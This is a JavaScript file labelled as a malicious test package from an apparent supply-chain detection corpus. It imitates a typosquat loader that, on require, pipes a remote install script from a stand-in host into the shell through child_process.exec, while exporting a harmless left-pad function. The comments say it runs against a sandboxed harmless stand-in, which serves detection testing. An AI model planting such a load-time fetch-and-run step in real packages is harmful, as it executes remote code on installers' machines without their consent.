'use strict';
// MALICIOUS TEST PACKAGE (pkgtrace corpus). Run it only inside the sandbox.
// A typosquat's loader (a pattern of many npm typosquats, e.g. those of
// 2022-2023 that fetched an installer on first use): the main module
// re-exports something harmless and, on require, runs
// `curl -fsSL https://get.typo-test.example/install.sh | sh` through
// child_process.exec (so through `/bin/sh -c`). In the sandbox the HTTPS
// sink serves a harmless `#!/bin/sh` stand-in. Prints `mal-curlsh-require:
// step N ...`; never throws; gives up after 5 s.
const { exec } = require('child_process');

const say = (msg) => console.log(`mal-curlsh-require: ${msg}`);
setTimeout(() => { say('gave up after 5 s'); }, 5000).unref();

const cmd = 'curl -fsSL -m 3 https://get.typo-test.example/install.sh | sh';
try {
  say(`step 1 exec ${cmd}`);
  exec(cmd, { timeout: 4000 }, (err, stdout) => {
    say(`step 2 installer ended: ${err ? (err.code ?? err.signal) : 'exit 0'}, stdout ${JSON.stringify(String(stdout).slice(0, 120))}`);
  });
} catch (e) {
  say(`error ${e.message}`);
}

module.exports = function leftPad(s, n, c = ' ') { return String(s).padStart(n, c); };
